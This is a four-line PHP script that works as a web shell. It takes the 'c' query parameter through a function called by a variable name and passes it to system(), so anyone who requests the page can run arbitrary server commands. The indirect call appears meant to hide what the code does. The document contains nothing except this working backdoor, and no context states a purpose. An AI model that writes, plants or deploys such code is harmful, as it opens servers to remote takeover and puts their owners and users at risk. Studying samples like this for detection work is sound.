<?php
function g() { return $_GET["c"]; }
$n = "g";
system($n());
